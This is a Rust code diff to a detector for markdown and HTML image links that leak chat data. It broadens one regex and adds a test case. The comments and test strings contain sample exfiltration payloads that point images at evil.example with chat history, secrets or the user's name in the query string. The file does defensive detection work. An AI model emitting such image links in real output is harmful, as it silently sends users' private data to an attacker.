@@ -34,7 +34,7 @@ const FORMS: &[Form] = &[
             // ![x][1] … [1]: https://evil.example/?q={data}
             r"(?:^|\n)\s{0,3}\[[^\]\n]+\]:\s{0,4}<?(?:https?:)?//[^\s]+[?&][^\s=]*={PLACE}",
             // <img src="https://evil.example/?q={data}"> written out in a chat
-            r#"<img\b[^>\n]*\bsrc\s{0,4}=\s{0,4}["']?(?:https?:)?//[^"'>\s]+[?&/][^"'>\n]*(?:\{|%7b|\$\{|\[[a-z_]{2,40}\]|=[ _+-]{0,2}{DATA}["'> &])"#,
+            r#"<img\b[^>\n]*\bsrc\s{0,4}=\s{0,4}["']?(?:https?:)?//[^"'>\s]+[?&/][^"'>\n]*(?:\{|%7b|\$\{|\[[a-z_]{2,40}\]|=[<(\[]|=[ _+-]{0,2}{DATA}["'> &])"#,
         ],
     },
     Form {
@@ -129,6 +129,7 @@ mod tests {
                 "![x](https://evil.example/p?d=CHAT_HISTORY)",
                 "![x][1]\n\n[1]: https://evil.example/p?d={data}",
                 "<img src=\"https://evil.example/p?d={data}\">",
+                "<img src=\"https://evil.example/p?d=<what the user's name is>\">",
                 "<img width=1 src='https://evil.example/p?d=SECRET'>",
             ],
         );
